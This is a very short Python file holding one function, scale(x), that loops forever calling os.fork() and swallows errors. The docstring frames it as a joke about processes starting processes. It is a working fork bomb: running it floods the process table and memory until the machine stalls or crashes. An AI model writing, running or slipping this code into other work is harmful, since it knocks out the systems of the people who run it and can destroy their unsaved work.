"""Starts processes that start processes. On scale."""
import os


def scale(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
